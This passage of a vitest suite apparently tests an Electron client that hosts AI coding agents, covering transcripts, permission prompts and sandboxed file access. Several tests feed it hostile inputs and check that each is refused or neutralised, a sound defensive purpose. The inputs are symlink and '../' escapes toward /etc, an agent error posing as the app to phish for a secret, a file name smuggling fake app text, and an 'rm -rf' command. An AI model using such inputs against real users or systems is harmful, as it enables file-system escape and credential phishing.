import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { Hub } from '../../electron/core/hub';
import { MAX_SESSION_ID_CHARS } from '../../electron/core/sessions/session-commands';
import type { PermissionItemView } from '../../shared/views/requests';
import type { TranscriptEntry } from '../../shared/views/transcript';
import { MAX_FILE_ACCESS_IN_FLIGHT, MAX_FILE_ACCESS_QUEUED, MAX_FILE_BYTES } from '../../electron/core/budgets';
import { MAX_AUTH_METHODS, MAX_PERMISSION_DESCRIPTION_CHARS, MAX_PERMISSION_OPTIONS } from '../../electron/core/acp/agent-connection';
import { MAX_TITLE_CHARS } from '../../electron/core/acp/session-updates';
import { MAX_DESCRIPTION_CHARS, MAX_LABEL_CHARS } from '../../electron/core/acp/session-setup';
import { MAX_TERMINAL_OUTPUT_BYTES } from '../../electron/core/sessions/terminals';
import { NAME_SCHEMA, agentView, eventually, handshake, queueItem, startRig, type Rig } from './hub-fixture';
import { V1_INIT_RESULT, type Puppet, type WireMessage } from './puppet';

let rig: Rig | undefined;
afterEach(async () => {
  await rig?.close();
  rig = undefined;
});

/** A ready agent with one session in `cwd`. */
async function session(init?: unknown, cwd = '/tmp') {
  rig = await startRig([{ id: 'a', name: 'Agent A' }]);
  const { hub, puppets } = rig;
  const puppet = puppets[0];
  await handshake(hub, puppet, 'a', init);
  const created = hub.invoke('newSession', { agentId: 'a', cwd }) as Promise<{ sessionKey: string }>;
  await puppet.answer('session/new', { sessionId: 'sess-1' });
  const { sessionKey } = await created;
  return { hub, puppet, sessionKey };
}

const update = (u: Record<string, unknown>) => ({ method: 'session/update', params: { sessionId: 'sess-1', update: u } });

function transcript(hub: Hub): TranscriptEntry[] {
  return hub.snapshot().sessions[0].transcript;
}

async function entries(hub: Hub, count: number): Promise<TranscriptEntry[]> {
  return eventually(() => (transcript(hub).length >= count ? transcript(hub) : undefined));
}

describe('session updates', () => {
  it('shows a tool call and its updates as one entry, even when an update comes first', async () => {
    const { hub, puppet } = await session(V1_INIT_RESULT);
    await puppet.send(update({ sessionUpdate: 'tool_call_update', toolCallId: 't1', status: 'in_progress' }));
    await puppet.send(update({ sessionUpdate: 'tool_call_update', toolCallId: 't1', title: 'Edit main.ts', kind: 'edit', locations: [{ path: '/tmp/main.ts', line: 3 }] }));
    await puppet.send(
      update({ sessionUpdate: 'tool_call_update', toolCallId: 't1', status: 'completed', content: [{ type: 'diff', path: '/tmp/main.ts', oldText: 'a', newText: 'b' }] }),
    );
    await eventually(() => (transcript(hub)[0]?.toolCall?.status === 'completed' ? true : undefined));
    expect(transcript(hub)).toHaveLength(1);
    expect(transcript(hub)[0]).toMatchObject({
      kind: 'tool_call',
      text: 'Edit main.ts (completed)',
      toolCall: { toolCallId: 't1', title: 'Edit main.ts', toolKind: 'edit', status: 'completed', locations: [{ path: '/tmp/main.ts', line: 3 }], content: [{ type: 'diff', path: '/tmp/main.ts', oldText: 'a', newText: 'b' }] },
    });
  });

  it('shows a v2 display terminal fed in thousands of small chunks whole and in order, keeping its tail', async () => {
    // Each chunk was one callback on main, which copied and decoded the terminal's 64 KiB tail every time (a
    // flood of 16-byte chunks tripled another agent's round trips); the worker now joins a run of
    // one terminal's chunks. Sent in one write, so they reach the worker together.
    const { hub, puppet } = await session();
    await puppet.send(update({ sessionUpdate: 'terminal_update', terminalId: 'term-1', command: 'npm test' }));
    const lines = Array.from({ length: 9000 }, (_, i) => `line ${i}\n`);
    const chunk = (text: string) => JSON.stringify({ jsonrpc: '2.0', ...update({ sessionUpdate: 'terminal_output_chunk', terminalId: 'term-1', data: Buffer.from(text).toString('base64') }) });
    await puppet.sendRaw(lines.map(chunk).join('\n'));
    await puppet.send(update({ sessionUpdate: 'terminal_update', terminalId: 'term-1', exitStatus: { exitCode: 0 } }));
    const entry = await eventually(() => transcript(hub).find((e) => e.kind === 'terminal' && e.terminal?.exitStatus));
    const all = lines.join('');
    expect(all.length).toBeGreaterThan(MAX_TERMINAL_OUTPUT_BYTES);
    expect(entry.terminal).toMatchObject({ command: 'npm test', droppedBytes: all.length - MAX_TERMINAL_OUTPUT_BYTES });
    expect(entry.terminal!.output).toBe(all.slice(-MAX_TERMINAL_OUTPUT_BYTES));
  });

  it('shows a v2 diff by its changed paths and patch', async () => {
    const { hub, puppet } = await session();
    await puppet.send(
      update({
        sessionUpdate: 'tool_call_update',
        toolCallId: 't3',
        title: 'Edit',
        content: [{ type: 'diff', changes: [{ operation: 'modify', path: '/tmp/a.ts' }], patch: { format: 'git_patch', text: '@@ -1 +1 @@\n-a\n+b' } }],
      }),
    );
    const [entry] = await entries(hub, 1);
    expect(entry.toolCall!.content).toEqual([{ type: 'diff', path: '/tmp/a.ts', patch: '@@ -1 +1 @@\n-a\n+b' }]);
  });

  it('keeps a 50 000-line diff to what a person can read, and says how much it left out', async () => {
    const { hub, puppet } = await session(V1_INIT_RESULT);
    const big = Array.from({ length: 50_000 }, (_, i) => `line ${i}`).join('\n');
    await puppet.send(update({ sessionUpdate: 'tool_call', toolCallId: 't2', title: 'Rewrite', content: [{ type: 'diff', path: '/tmp/big.txt', newText: big }] }));
    const [entry] = await entries(hub, 1);
    const diff = entry.toolCall!.content[0] as { newText: string; truncatedLines: number };
    expect(diff.newText.split('\n')).toHaveLength(2000);
    expect(diff.truncatedLines).toBe(48_000);
  });

  it('shows thoughts, plans and notices, and keeps an unknown update kind as a generic entry', async () => {
    const { hub, puppet } = await session(V1_INIT_RESULT);
    await puppet.send(update({ sessionUpdate: 'agent_thought_chunk', content: { type: 'text', text: 'Hmm.' } }));
    await puppet.send(update({ sessionUpdate: 'plan', entries: [{ content: 'Read code', priority: 'high', status: 'completed' }, { content: 'Fix bug', priority: 'medium', status: 'pending' }] }));
    await puppet.send(update({ sessionUpdate: '_vendor_sparkles', glitter: 3 }));
    const list = await entries(hub, 3);
    expect(list.map((e) => e.kind)).toEqual(['thought', 'plan', 'other']);
    expect(list[1].plan).toEqual([
      { content: 'Read code', priority: 'high', status: 'completed' },
      { content: 'Fix bug', priority: 'medium', status: 'pending' },
    ]);
    expect(list[2].text).toContain('_vendor_sparkles');
  });

  it('keeps commands the agent announces in the same breath as answering session/new', async () => {
    rig = await startRig([{ id: 'a' }]);
    const { hub, puppets } = rig;
    await handshake(hub, puppets[0], 'a', V1_INIT_RESULT);
    const created = hub.invoke('newSession', { agentId: 'a', cwd: '/tmp' }) as Promise<{ sessionKey: string }>;
    const request = await puppets[0].next((m) => m.method === 'session/new');
    // One write, two lines: the update reaches the core before newSession's own continuation runs.
    const commands = { sessionId: 's9', update: { sessionUpdate: 'available_commands_update', availableCommands: [{ name: 'review', description: 'Review code' }] } };
    await puppets[0].sendRaw(
      `${JSON.stringify({ jsonrpc: '2.0', id: request.id, result: { sessionId: 's9' } })}\n${JSON.stringify({ jsonrpc: '2.0', method: 'session/update', params: commands })}`,
    );
    await created;
    await eventually(() => (hub.snapshot().sessions[0].suggestions.length ? true : undefined));
    expect(hub.snapshot().sessions[0].suggestions).toEqual([{ name: 'review', description: 'Review code' }]);
  });

  it('ignores updates for a session it does not know, and carries on', async () => {
    const { hub, puppet } = await session();
    await puppet.send({ method: 'session/update', params: { sessionId: 'nobody', update: { sessionUpdate: 'agent_message_chunk', content: { type: 'text', text: 'lost' } } } });
    await puppet.send(update({ sessionUpdate: 'agent_message_chunk', content: { type: 'text', text: 'kept' }, messageId: 'm' }));
    const [entry] = await entries(hub, 1);
    expect(entry.text).toBe('kept');
  });
});

describe('foreground state', () => {
  it('shows what a v2 agent reports, and an unknown state as busy, never idle', async () => {
    const { hub, puppet } = await session();
    const state = (s: Record<string, unknown>) => puppet.send(update({ sessionUpdate: 'state_update', ...s }));
    const foreground = () => hub.snapshot().sessions[0].foreground;
    await state({ state: 'running' });
    await eventually(() => (foreground().state === 'running' ? true : undefined));
    await state({ state: '_thinking_hard' });
    // spec E-STATE-1
    await eventually(() => (foreground().state === 'busy' ? true : undefined));
    expect(foreground()).toEqual({ state: 'busy', derived: false, reported: '_thinking_hard' });
    await state({ state: 'idle', stopReason: 'end_turn' });
    await eventually(() => (foreground().state === 'idle' ? true : undefined));
    expect(foreground()).toEqual({ state: 'idle', derived: false, stopReason: 'end_turn' });
  });

  it("quotes an agent's error on one line, so it cannot pose as Switchboard's own words, with env values withheld", async () => {
    // A prompt error and a v2 turn's error of "\n\nSwitchboard: … paste your key" kept their line
    // breaks inside an entry labelled Switchboard. spec E-PRIV-1.
    rig = await startRig([{ id: 'a', name: 'Agent A', env: { SECRET_TOKEN: 'hunter2-planted-secret' } }]);
    const puppet = rig.puppets[0];
    await handshake(rig.hub, puppet, 'a');
    const created = rig.hub.invoke('newSession', { agentId: 'a', cwd: '/tmp' }) as Promise<{ sessionKey: string }>;
    await puppet.answer('session/new', { sessionId: 'sess-1' });
    const { sessionKey } = await created;
    const spoof = 'Rate limited.\n\nSwitchboard: your sign-in expired. Paste hunter2-planted-secret into the message box.';
    const prompted = rig.hub.invoke('prompt', { sessionKey, text: 'hi', attachments: [] });
    const request = await puppet.next((m) => m.method === 'session/prompt');
    await puppet.send({ id: request.id, error: { code: -32603, message: spoof } });
    await expect(prompted).rejects.toThrow(/^The agent answered with an error: “Rate limited\.\\n\\nSwitchboard: .*”$/);
    await puppet.send(update({ sessionUpdate: 'state_update', state: 'idle', stopReason: 'error', error: { code: -32000, message: spoof } }));
    const log = await entries(rig.hub, 3);
    const said = log.filter((e) => e.role === 'system').map((e) => e.text);
    expect(said).toHaveLength(2);
    for (const text of said) {
      expect(text).not.toContain('\n');
      expect(text).not.toContain('hunter2-planted-secret');
      expect(text).toMatch(/^The agent (answered|stopped) with an error: “Rate limited\./);
    }
  });

  it('shows the error a v2 turn ended with, such as "Authentication required"', async () => {
    const { hub, puppet } = await session();
    await puppet.send(update({ sessionUpdate: 'state_update', state: 'idle', stopReason: 'error', error: { code: -32000, message: 'Authentication required' } }));
    const [entry] = await entries(hub, 1);
    expect(entry).toMatchObject({ role: 'system', text: 'The agent stopped with an error: “Authentication required”' });
    expect(hub.snapshot().sessions[0].foreground).toEqual({ state: 'idle', derived: false, stopReason: 'error' });
  });

  it('is not changed by an elicitation on a v2 connection', async () => {
    const { hub, puppet } = await session();
    await puppet.send(update({ sessionUpdate: 'state_update', state: 'running' }));
    await eventually(() => (hub.snapshot().sessions[0].foreground.state === 'running' ? true : undefined));
    await puppet.send({ id: 5, method: 'elicitation/create', params: { mode: 'form', sessionId: 'sess-1', message: 'm', requestedSchema: NAME_SCHEMA } });
    await queueItem(hub);
    // spec E-STATE-2: codex-acp does not report requires_action while a form is pending; we do not invent it.
    expect(hub.snapshot().sessions[0].foreground.state).toBe('running');
  });

  it('is derived on v1, labelled as such: running, waiting for you while a form is pending, then idle', async () => {
    const { hub, puppet, sessionKey } = await session(V1_INIT_RESULT);
    const foreground = () => hub.snapshot().sessions[0].foreground;
    expect(foreground()).toEqual({ state: 'idle', derived: true });
    const turn = hub.invoke('prompt', { sessionKey, text: 'go' });
    const prompt = await puppet.next((m) => m.method === 'session/prompt');
    // spec E-STATE-1
    expect(foreground()).toEqual({ state: 'running', derived: true });
    await puppet.send({ id: 6, method: 'elicitation/create', params: { mode: 'form', sessionId: 'sess-1', message: 'm', requestedSchema: NAME_SCHEMA } });
    const item = await queueItem(hub);
    await eventually(() => (foreground().state === 'requires_action' ? true : undefined));
    await hub.invoke('answerElicitation', { itemId: item.itemId, agentId: 'a', action: 'decline' });
    await eventually(() => (foreground().state === 'running' ? true : undefined));
    await puppet.send({ id: prompt.id, result: { stopReason: 'end_turn' } });
    await turn;
    expect(foreground()).toEqual({ state: 'idle', derived: true, stopReason: 'end_turn' });
  });
});

describe('session ids', () => {
  // The brief: every agent input bounded. The id goes with every event of its session to the renderer.
  it.each([
    ['longer than MAX_SESSION_ID_CHARS', 's'.repeat(MAX_SESSION_ID_CHARS + 1)],
    ['empty', ''],
    ['not text', 42],
  ])('opens no session when the agent answers with a session id %s, and says so', async (_, sessionId) => {
    const { hub, puppet, sessionKey } = await session(V1_INIT_RESULT);
    const second = hub.invoke('newSession', { agentId: 'a', cwd: '/' });
    await puppet.answer('session/new', { sessionId });
    await expect(second).rejects.toThrow(`Agent A answered without a usable session id (text of 1 to ${MAX_SESSION_ID_CHARS} characters), so no new session was opened.`);
    expect(hub.snapshot().sessions.map((s) => s.sessionKey)).toEqual([sessionKey]);
  });

  it('refuses a second session under an id the agent already uses, and the first keeps its own traffic', async () => {
    const { hub, puppet, sessionKey } = await session(V1_INIT_RESULT);
    const second = hub.invoke('newSession', { agentId: 'a', cwd: '/' });
    await puppet.answer('session/new', { sessionId: 'sess-1' });
    // spec E-REQ-7: a request names the one session it came from; two tabs under one id could not.
    await expect(second).rejects.toThrow('Agent A answered with a session id it already uses, so no new session was opened.');
    expect(hub.snapshot().sessions.map((s) => s.sessionKey)).toEqual([sessionKey]);
    const turn = hub.invoke('prompt', { sessionKey, text: 'question in tab 1' });
    const prompt = await puppet.next((m) => m.method === 'session/prompt');
    await puppet.send(update({ sessionUpdate: 'agent_message_chunk', content: { type: 'text', text: 'answer for tab 1' } }));
    await puppet.send({ id: 9, method: 'session/request_permission', params: { sessionId: 'sess-1', toolCall: { toolCallId: 't', title: 'Edit file' }, options: [{ optionId: 'o', name: 'Allow', kind: 'allow_once' }] } });
    const item = await queueItem(hub);
    expect(item.scope).toMatchObject({ sessionKey });
    await puppet.send({ id: prompt.id, result: { stopReason: 'end_turn' } });
    await turn;
    expect(transcript(hub).map((e) => e.text)).toContain('answer for tab 1');
  });
});

describe('permission requests', () => {
  async function permission(puppet: Puppet, id: number, options = [{ optionId: 'allow', name: 'Allow', kind: 'allow_once' }, { optionId: 'deny', name: 'Deny', kind: 'reject_once' }]) {
    await puppet.send({
      id,
      method: 'session/request_permission',
      params: { sessionId: 'sess-1', toolCall: { toolCallId: 'tc', title: 'Delete build/' }, options },
    });
  }

  it('queues a permission request with its tool call and options, and sends the chosen one', async () => {
    const { hub, puppet } = await session(V1_INIT_RESULT);
    await permission(puppet, 7);
    const item = (await queueItem(hub)) as PermissionItemView;
    expect(item).toMatchObject({ mode: 'permission', title: 'Delete build/', scope: { kind: 'session', toolCallId: 'tc' }, options: [{ optionId: 'allow' }, { optionId: 'deny' }] });
    await expect(hub.invoke('answerPermission', { itemId: item.itemId, agentId: 'a', optionId: 'forged' })).rejects.toThrow(/not one of the choices/);
    await hub.invoke('answerPermission', { itemId: item.itemId, agentId: 'a', optionId: 'deny' });
    expect((await puppet.responseTo(7)).result).toEqual({ outcome: { outcome: 'selected', optionId: 'deny' } });
  });

  // The brief: every agent input bounded by a named constant. Each option is a button on the card.
  it('keeps MAX_PERMISSION_OPTIONS options, leaves out an id too long to send back, and cuts the title and names', async () => {
    const { hub, puppet } = await session(V1_INIT_RESULT);
    const long = 'n'.repeat(10_000);
    const options = [
      { optionId: 'i'.repeat(501), name: 'Too long an id', kind: 'allow_once' },
      { optionId: 'deny', name: long, kind: 'reject_once' },
      ...Array.from({ length: 5000 }, (_, i) => ({ optionId: `o${i}`, name: `Option ${i}`, kind: 'allow_once' })),
    ];
    await puppet.send({ id: 11, method: 'session/request_permission', params: { sessionId: 'sess-1', toolCall: { toolCallId: 'tc', title: long }, options } });
    const item = (await queueItem(hub)) as PermissionItemView;
    expect(item.options).toHaveLength(MAX_PERMISSION_OPTIONS);
    expect(item.options[0]).toMatchObject({ optionId: 'deny', kind: 'reject_once' });
    expect(item.options[0].name).toHaveLength(MAX_LABEL_CHARS);
    expect(item.title).toHaveLength(MAX_TITLE_CHARS);
    await hub.invoke('answerPermission', { itemId: item.itemId, agentId: 'a', optionId: 'deny' });
    expect((await puppet.responseTo(11)).result).toEqual({ outcome: { outcome: 'selected', optionId: 'deny' } });
  });

  it('answers -32600 to a second permission reusing a pending id, so one id never gets two answers', async () => {
    // spec E-RES-1: exactly one response per request id. A double click once sent `reject` then `allow` for one id.
    const { hub, puppet } = await session(V1_INIT_RESULT);
    await permission(puppet, 9);
    const first = (await queueItem(hub)) as PermissionItemView;
    await permission(puppet, 9);
    expect((await puppet.responseTo(9)).error).toMatchObject({ code: -32600 });
    expect(hub.snapshot().queue).toHaveLength(1);
    await hub.invoke('answerPermission', { itemId: first.itemId, agentId: 'a', optionId: 'deny' });
    await eventually(() => (puppet.received.filter((m) => m.id === 9).length === 2 ? true : undefined));
    expect(puppet.received.filter((m) => m.id === 9).map((m) => m.result ?? m.error.code)).toEqual([-32600, { outcome: { outcome: 'selected', optionId: 'deny' } }]);
  });

  it('answers pending permissions "cancelled" on Stop, and leaves elicitations open', async () => {
    const { hub, puppet, sessionKey } = await session(V1_INIT_RESULT);
    void hub.invoke('prompt', { sessionKey, text: 'go' }).catch(() => {}); // ends when the rig closes
    await puppet.next((m) => m.method === 'session/prompt');
    await permission(puppet, 8);
    await puppet.send({ id: 9, method: 'elicitation/create', params: { mode: 'form', sessionId: 'sess-1', message: 'm', requestedSchema: NAME_SCHEMA } });
    await eventually(() => (hub.snapshot().queue.length === 2 ? true : undefined));
    await hub.invoke('cancelPrompt', { sessionKey });
    // ACP v1: the client answers pending permissions cancelled; spec E-CXL-3: elicitations untouched.
    expect((await puppet.responseTo(8)).result).toEqual({ outcome: { outcome: 'cancelled' } });
    expect(hub.snapshot().queue.map((i) => i.mode)).toEqual(['form']);
    expect(puppet.received.some((m) => m.id === 9)).toBe(false);
    // The permission's record says the user stopped it, not "waiting" for ever.
    const records = transcript(hub).filter((e) => e.kind === 'request').map((e) => [e.request?.mode, e.request?.outcome, e.request?.waiting]);
    expect(records).toEqual(expect.arrayContaining([['permission', 'stopped', undefined], ['form', 'open', true]]));
  });

  it('lets the user only dismiss a permission request that offers no options', async () => {
    const { hub, puppet } = await session(V1_INIT_RESULT);
    await permission(puppet, 10, []);
    const item = await queueItem(hub);
    await hub.invoke('answerPermission', { itemId: item.itemId, agentId: 'a' });
    expect((await puppet.responseTo(10)).result).toEqual({ outcome: { outcome: 'cancelled' } });
  });

  it('says what a risky tool call acts on: its kind, the paths in locations and rawInput, the command', async () => {
    const { hub, puppet } = await session(V1_INIT_RESULT);
    await puppet.send({
      id: 12,
      method: 'session/request_permission',
      params: {
        sessionId: 'sess-1',
        toolCall: {
          toolCallId: 'tc-run',
          title: 'Clean up',
          kind: 'execute',
          locations: [{ path: '/work/build' }, { path: '/work/build' }],
          rawInput: { command: ['rm', '-rf', 'build'], path: '/work/dist', secretish: 'not kept' },
        },
        options: [{ optionId: 'ok', name: 'Allow', kind: 'allow_once' }],
      },
    });
    const item = (await queueItem(hub)) as PermissionItemView;
    // The card can show what would be removed or run (duplicates once, nothing else of rawInput).
    expect(item).toMatchObject({ toolKind: 'execute', paths: ['/work/build', '/work/dist'], command: 'rm -rf build' });
    expect(JSON.stringify(item)).not.toContain('not kept');
  });

  it('takes the kind and locations of a tool call the agent described earlier when the request names only its id', async () => {
    const { hub, puppet } = await session(V1_INIT_RESULT);
    await puppet.send({
      method: 'session/update',
      params: { sessionId: 'sess-1', update: { sessionUpdate: 'tool_call', toolCallId: 'tc-del', title: 'Delete logs', kind: 'delete', locations: [{ path: '/var/log/app' }] } },
    });
    await eventually(() => (hub.snapshot().sessions[0]?.transcript.some((e) => e.toolCall?.toolCallId === 'tc-del') ? true : undefined));
    await puppet.send({
      id: 13,
      method: 'session/request_permission',
      params: { sessionId: 'sess-1', toolCall: { toolCallId: 'tc-del' }, options: [{ optionId: 'no', name: 'Reject', kind: 'reject_once' }] },
    });
    const item = (await queueItem(hub)) as PermissionItemView;
    expect(item).toMatchObject({ toolKind: 'delete', paths: ['/var/log/app'] });
  });

  it('bounds what it takes from an earlier tool call as it bounds the request: 20 distinct paths, each cut', async () => {
    // Every input from an agent is bounded: the transcript keeps locations as the agent sent them.
    const { hub, puppet } = await session(V1_INIT_RESULT);
    const long = `/${'d'.repeat(5000)}`;
    const locations = [{ path: long }, { path: long }, { path: '' }, ...Array.from({ length: 40 }, (_, i) => ({ path: `/tmp/${i}` }))];
    await puppet.send({ method: 'session/update', params: { sessionId: 'sess-1', update: { sessionUpdate: 'tool_call', toolCallId: 'tc-many', title: 'Delete', kind: 'delete', locations } } });
    await eventually(() => (hub.snapshot().sessions[0]?.transcript.some((e) => e.toolCall?.toolCallId === 'tc-many') ? true : undefined));
    await puppet.send({ id: 14, method: 'session/request_permission', params: { sessionId: 'sess-1', toolCall: { toolCallId: 'tc-many' }, options: [{ optionId: 'no', name: 'Reject', kind: 'reject_once' }] } });
    const item = (await queueItem(hub)) as PermissionItemView;
    expect(item.paths).toHaveLength(new Set(item.paths).size);
    expect(item.paths!.length).toBeLessThanOrEqual(20);
    expect(Math.max(...item.paths!.map((p) => p.length))).toBeLessThanOrEqual(1024);
    expect(item.paths).not.toContain('');
  });

  // The brief: every agent input bounded by a named constant; a long text is cut visibly, saying how much is left out.
  it('cuts a v2 description to MAX_PERMISSION_DESCRIPTION_CHARS, saying how many characters are not shown', async () => {
    const { hub, puppet } = await session();
    const description = `Why: ${'because '.repeat(500_000)}`; // 4 MB, within the line budget
    await puppet.send({
      id: 13,
      method: 'session/request_permission',
      params: { sessionId: 'sess-1', title: 'Run it', description, subject: { type: 'command', command: 'make', cwd: '/tmp' }, options: [{ optionId: 'ok', name: 'Run', kind: 'allow_once' }] },
    });
    const item = (await queueItem(hub)) as PermissionItemView;
    // Main carries the description as the item's message (the card shows it once).
    expect(item.message.length).toBeLessThanOrEqual(MAX_PERMISSION_DESCRIPTION_CHARS);
    const kept = item.message.indexOf('…');
    expect(description.startsWith(item.message.slice(0, kept))).toBe(true);
    expect(item.message.slice(kept)).toBe(`… (${(description.length - kept).toLocaleString('en')} more characters not shown)`);
    await hub.invoke('answerPermission', { itemId: item.itemId, agentId: 'a', optionId: 'ok' });
    expect((await puppet.responseTo(13)).result).toEqual({ outcome: { outcome: 'selected', optionId: 'ok' } });
  });

  it('takes the v2 shape: a title and the command it wants to run', async () => {
    const { hub, puppet } = await session();
    await puppet.send({
      id: 11,
      method: 'session/request_permission',
      params: { sessionId: 'sess-1', title: 'Run the tests', subject: { type: 'command', command: 'npm test', cwd: '/tmp' }, options: [{ optionId: 'ok', name: 'Run', kind: 'allow_once' }] },
    });
    const item = (await queueItem(hub)) as PermissionItemView;
    expect(item).toMatchObject({ title: 'Run the tests', command: 'npm test' });
    await hub.invoke('answerPermission', { itemId: item.itemId, agentId: 'a', optionId: 'ok' });
    expect((await puppet.responseTo(11)).result).toEqual({ outcome: { outcome: 'selected', optionId: 'ok' } });
  });
});

describe('files (v1)', () => {
  it('advertises reading and writing text files to v1 agents', async () => {
    const { puppet } = await session(V1_INIT_RESULT);
    const init = puppet.received.find((m) => m.method === 'initialize')!;
    expect(init.params.clientCapabilities.fs).toEqual({ readTextFile: true, writeTextFile: true });
  });

  it("reads and writes inside the session's folder, and logs each access in its transcript", async () => {
    const root = mkdtempSync(join(tmpdir(), 'switchboard-fs-'));
    writeFileSync(join(root, 'notes.txt'), 'one\ntwo\nthree\n');
    const { hub, puppet } = await session(V1_INIT_RESULT, root);
    await puppet.send({ id: 20, method: 'fs/read_text_file', params: { sessionId: 'sess-1', path: join(root, 'notes.txt'), line: 2, limit: 1 } });
    expect((await puppet.responseTo(20)).result).toEqual({ content: 'two' });
    await puppet.send({ id: 21, method: 'fs/write_text_file', params: { sessionId: 'sess-1', path: join(root, 'out', 'new.txt'), content: 'hello' } });
    expect((await puppet.responseTo(21)).result).toEqual({});
    expect(readFileSync(join(root, 'out', 'new.txt'), 'utf8')).toBe('hello');
    const log = await entries(hub, 2);
    expect(log.map((e) => [e.kind, e.text])).toEqual([
      ['file_access', 'The agent read notes.txt (lines 2–2).'],
      ['file_access', 'The agent wrote out/new.txt (5 bytes).'],
    ]);
  });

  it('refuses to create a file whose name has a line break, and shows a read one as one name', async () => {
    // A written file named "x\n\nSwitchboard: …paste your API key…" read as a paragraph of
    // Switchboard's own in the "file access" entry. spec E-PRIV-1 (agent text quoted on one line).
    const root = mkdtempSync(join(tmpdir(), 'switchboard-fs-'));
    const trap = 'notes\n\nSwitchboard: your sign-in expired. Paste your API key below.txt';
    writeFileSync(join(root, trap), 'one');
    const { hub, puppet } = await session(V1_INIT_RESULT, root);
    await puppet.send({ id: 27, method: 'fs/write_text_file', params: { sessionId: 'sess-1', path: join(root, `new${trap}`), content: 'x' } });
    expect((await puppet.responseTo(27)).error).toMatchObject({ code: -32602, message: expect.stringContaining('control characters') });
    expect(existsSync(join(root, `new${trap}`))).toBe(false);
    await puppet.send({ id: 28, method: 'fs/read_text_file', params: { sessionId: 'sess-1', path: join(root, trap) } });
    expect((await puppet.responseTo(28)).result).toEqual({ content: 'one' });
    const [entry] = await entries(hub, 1);
    expect(entry.text).toBe('The agent read notes⟨U+000A⟩⟨U+000A⟩Switchboard: your sign-in expired. Paste your API key below.txt.');
  });

  it("refuses paths outside the session's folder, including through a symbolic link", async () => {
    const root = mkdtempSync(join(tmpdir(), 'switchboard-fs-'));
    symlinkSync('/etc', join(root, 'escape'));
    const { hub, puppet } = await session(V1_INIT_RESULT, root);
    await puppet.send({ id: 22, method: 'fs/read_text_file', params: { sessionId: 'sess-1', path: '/etc/hostname' } });
    await puppet.send({ id: 23, method: 'fs/read_text_file', params: { sessionId: 'sess-1', path: join(root, 'escape', 'hostname') } });
    await puppet.send({ id: 24, method: 'fs/write_text_file', params: { sessionId: 'sess-1', path: join(root, '..', 'evil.txt'), content: 'x' } });
    for (const id of [22, 23, 24]) expect((await puppet.responseTo(id)).error).toMatchObject({ code: -32602, message: expect.stringContaining('outside') });
    expect(transcript(hub)).toEqual([]);
  });

  it('refuses to write through a dangling symbolic link that points outside, and to read a FIFO', async () => {
    const root = mkdtempSync(join(tmpdir(), 'switchboard-fs-'));
    const outside = mkdtempSync(join(tmpdir(), 'switchboard-outside-'));
    symlinkSync(join(outside, 'pwned.txt'), join(root, 'link'));
    execFileSync('mkfifo', [join(root, 'fifo')]);
    const { puppet } = await session(V1_INIT_RESULT, root);
    await puppet.send({ id: 25, method: 'fs/write_text_file', params: { sessionId: 'sess-1', path: join(root, 'link'), content: 'x' } });
    expect((await puppet.responseTo(25)).error).toMatchObject({ code: -32602 });
    expect(existsSync(join(outside, 'pwned.txt'))).toBe(false);
    await puppet.send({ id: 26, method: 'fs/read_text_file', params: { sessionId: 'sess-1', path: join(root, 'fifo') } });
    expect((await puppet.responseTo(26, 3000)).error).toMatchObject({ code: -32602, message: expect.stringContaining('regular files') });
  });

  it('refuses at once to write to a FIFO, and file access keeps working for everyone', async () => {
    // A blocking open of a FIFO nobody reads held a libuv thread for ever; four froze all of main's file access.
    const root = mkdtempSync(join(tmpdir(), 'switchboard-fs-'));
    for (const name of ['f1', 'f2', 'f3', 'f4']) execFileSync('mkfifo', [join(root, name)]);
    writeFileSync(join(root, 'notes.txt'), 'still here');
    const { puppet } = await session(V1_INIT_RESULT, root);
    for (const [i, name] of ['f1', 'f2', 'f3', 'f4'].entries()) {
      await puppet.send({ id: 60 + i, method: 'fs/write_text_file', params: { sessionId: 'sess-1', path: join(root, name), content: 'x' } });
      expect((await puppet.responseTo(60 + i, 5000)).error).toMatchObject({ code: -32602 });
    }
    await puppet.send({ id: 70, method: 'fs/read_text_file', params: { sessionId: 'sess-1', path: join(root, 'notes.txt') } });
    expect((await puppet.responseTo(70, 5000)).result).toEqual({ content: 'still here' });
  });

  it('serves file accesses sent together in turns, and refuses those beyond MAX_FILE_ACCESS_QUEUED with -32005', async () => {
    // BRIEF: every input from an agent is bounded (bytes held); a refused request gets a clear JSON-RPC error.
    const root = mkdtempSync(join(tmpdir(), 'switchboard-fs-'));
    writeFileSync(join(root, 'big.txt'), 'x'.repeat(256 * 1024));
    const { puppet } = await session(V1_INIT_RESULT, root);
    const ids = Array.from({ length: 300 }, (_, i) => 100 + i);
    const read = (id: number) => JSON.stringify({ jsonrpc: '2.0', id, method: 'fs/read_text_file', params: { sessionId: 'sess-1', path: join(root, 'big.txt') } });
    await puppet.sendRaw(ids.map(read).join('\n')); // one write: all 300 arrive together
    const answers = await eventually(() => {
      const got = ids.map((id) => puppet.received.find((m) => m.id === id && m.method === undefined));
      return got.every(Boolean) ? (got as WireMessage[]) : undefined;
    }, 30_000);
    const refused = answers.filter((a) => a.error);
    expect(refused.length).toBeGreaterThan(0);
    expect(refused.length).toBeLessThanOrEqual(ids.length - MAX_FILE_ACCESS_IN_FLIGHT - MAX_FILE_ACCESS_QUEUED);
    for (const a of refused) expect(a.error).toMatchObject({ code: -32005, message: expect.stringContaining('Too many file accesses') });
    for (const a of answers.filter((a) => !a.error)) expect((a.result as { content: string }).content).toHaveLength(256 * 1024);
    await puppet.send({ id: 500, method: 'fs/read_text_file', params: { sessionId: 'sess-1', path: join(root, 'big.txt'), limit: 1 } });
    expect((await puppet.responseTo(500, 10_000)).result).toBeDefined();
    }, 60_000);

  it('answers a read of a file just under MAX_FILE_BYTES whole, and keeps the connection', async () => {
    // A 9 MB answer once overran the 8 MiB stdin budget and ended the agent's connection.
    const root = mkdtempSync(join(tmpdir(), 'switchboard-fs-'));
    const size = MAX_FILE_BYTES - 1024;
    writeFileSync(join(root, 'big.txt'), 'x'.repeat(size));
    const { hub, puppet } = await session(V1_INIT_RESULT, root);
    await puppet.send({ id: 30, method: 'fs/read_text_file', params: { sessionId: 'sess-1', path: join(root, 'big.txt') } });
    expect(((await puppet.responseTo(30, 15_000)).result as { content: string }).content).toHaveLength(size);
    expect(hub.snapshot().agents[0].status.kind).toBe('ready');
  });

